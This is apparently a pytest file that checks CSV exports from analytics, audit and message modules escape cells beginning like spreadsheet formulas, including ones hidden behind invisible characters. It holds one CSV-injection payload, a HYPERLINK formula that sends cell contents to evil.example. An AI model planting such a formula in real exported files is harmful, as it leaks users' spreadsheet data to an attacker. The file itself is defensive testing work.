"""No file of ours holds a cell that a spreadsheet would run, whoever chose its text."""

import csv
import io
from datetime import UTC, datetime

import pytest

from controlplane.analytics.files import as_csv as rows_as_csv
from controlplane.audit.selectors import FIELDS
from controlplane.audit.selectors import as_csv as events_as_csv
from controlplane.common.spreadsheets import no_formula
from controlplane.messages.export import _line
from spark_analytics.contracts.gold import Column, ColumnType

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
BEFORE = ["", " ", "\u00a0", "\u200b", "\ufeff", "\u2003", "\x00", " \u200d\t", "\u202e", "\x1f"]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n"]


def of_analytics(text):
    *_, row = rows_as_csv((Column("group", ColumnType.STRING),), [[{"group": text}]])
    return row


def of_the_record(text):
    return events_as_csv([{**dict.fromkeys(FIELDS), "data": {}, "reason": text}])


def of_messages(text):
    row = {
        "partition": 0,
        "offset": 1,
        "timestamp": datetime(2026, 1, 1, tzinfo=UTC).isoformat(),
        "key_kind": "text",
        "key": None,
        "value_kind": "text",
        "value": text,
        "headers": [],
        "masked": [],
    }
    return _line(row, is_csv=True)


@pytest.mark.parametrize("file", [of_analytics, of_the_record, of_messages])
@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("sign", SIGNS)
def test_no_cell_begins_as_a_formula_does_whatever_stands_before_it(file, before, sign):
    cells = next(csv.reader(io.StringIO(file(f"{before}{sign}{FORMULA}"))))
    (mine,) = [cell for cell in cells if "evil.example" in cell]
    assert mine.startswith("'")


@pytest.mark.parametrize("text", ["", " ", "orders", "a=b", "2026-01-01", "über", "\u200b"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert no_formula(text) == text
